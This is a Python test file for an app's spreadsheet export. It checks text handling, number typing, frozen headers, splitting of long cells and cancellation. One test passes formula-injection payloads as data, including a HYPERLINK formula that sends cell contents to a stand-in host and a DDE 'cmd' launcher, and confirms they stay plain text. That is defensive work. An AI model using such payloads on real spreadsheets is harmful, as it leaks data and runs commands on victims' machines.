"""A spreadsheet in which text is text, numbers are numbers, and nothing is cut."""

import re
import zipfile
from xml.etree import ElementTree

import pytest

from shkc_desktop.export.destination import ExportCancelled
from shkc_desktop.export.formats import export
from shkc_desktop.export.options import ExportOptions
from shkc_desktop.export.xlsx import MAX_CELL, cut

S = "{http://schemas.openxmlformats.org/spreadsheetml/2006/main}"


def sheet(path):
    """The first sheet as a list of {column name: (type, value)} and its XML."""
    archive = zipfile.ZipFile(path)
    strings = ["".join(i.itertext()) for i in ElementTree.fromstring(archive.read("xl/sharedStrings.xml"))]
    root = ElementTree.fromstring(archive.read("xl/worksheets/sheet1.xml"))
    table = []
    for row in root.iter(f"{S}row"):
        cells = {}
        for cell in row:
            value = cell.findtext(f"{S}v")
            column = re.match("[A-Z]+", cell.get("r")).group()
            cells[column] = ("s", strings[int(value)]) if cell.get("t") == "s" else ("n", float(value))
        table.append(cells)
    names = {column: value for column, (_, value) in table[0].items()}
    return [{names[column]: cell for column, cell in row.items()} for row in table[1:]], root


@pytest.fixture
def written(tmp_path):
    def write(items, **options):
        result = export("xlsx", items, ExportOptions(**options), tmp_path / "a.xlsx")
        return (*sheet(tmp_path / "a.xlsx"), result)

    return write


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://x/?"&A1,"点")',
        "+cmd|' /C calc'!A0",
        "@SUM(1)",
        "\t=1",
        "＝1+1",
        "https://example.org/",
        "007",
    ],
)
def test_text_stays_text(make, written, text):
    rows, root, _ = written([make(text, note=text)])
    assert rows[0]["摘录"] == rows[0]["批注"] == ("s", text)
    assert not list(root.iter(f"{S}f")) and not list(root.iter(f"{S}hyperlink"))


def test_years_paragraphs_and_dates_are_numbers(make, written):
    rows, _, _ = written([make(created="2026-11-20T12:00:00+00:00")])
    assert rows[0]["年份"] == ("n", 2022) and rows[0]["段"] == ("n", 12)
    assert rows[0]["标注时间"] == ("n", 46346.5)


def test_the_header_stays_and_filters(make, written):
    _, root, _ = written([make(), make(number=2)])
    pane = next(root.iter(f"{S}pane"))
    assert (pane.get("state"), pane.get("topLeftCell")) == ("frozen", "A2")
    assert next(root.iter(f"{S}autoFilter")).get("ref").startswith("A1:")
    assert next(root.iter(f"{S}autoFilter")).get("ref").endswith("3")


def test_long_text_goes_on_in_further_columns_and_is_told(make, written):
    note = "长" * 40_000 + "𠮷" * 20_000
    rows, _, result = written([make(note=note), make(number=2, start=9, note="短")])
    parts = [rows[0][name][1] for name in ("批注", "批注（续1）", "批注（续2）")]
    assert "".join(parts) == note and "批注（续1）" not in rows[1]
    assert "有 1 个单元格超过 32767 字，已接着写入右侧的“续”列。" in result.warnings


def test_pieces_count_what_excel_counts_and_break_no_character():
    pieces = cut("a" + "😀" * 30_000)
    assert all(len(piece.encode("utf-16-le")) // 2 <= MAX_CELL for piece in pieces)
    assert "".join(pieces) == "a" + "😀" * 30_000 and len(pieces) == 2


def test_a_cancelled_spreadsheet_leaves_nothing(make, tmp_path):
    asked = iter([False, False, True])
    with pytest.raises(ExportCancelled):
        items = [make(number=number) for number in range(200)]
        export("xlsx", items, ExportOptions(), tmp_path / "a.xlsx", None, lambda: next(asked))
    assert list(tmp_path.iterdir()) == []
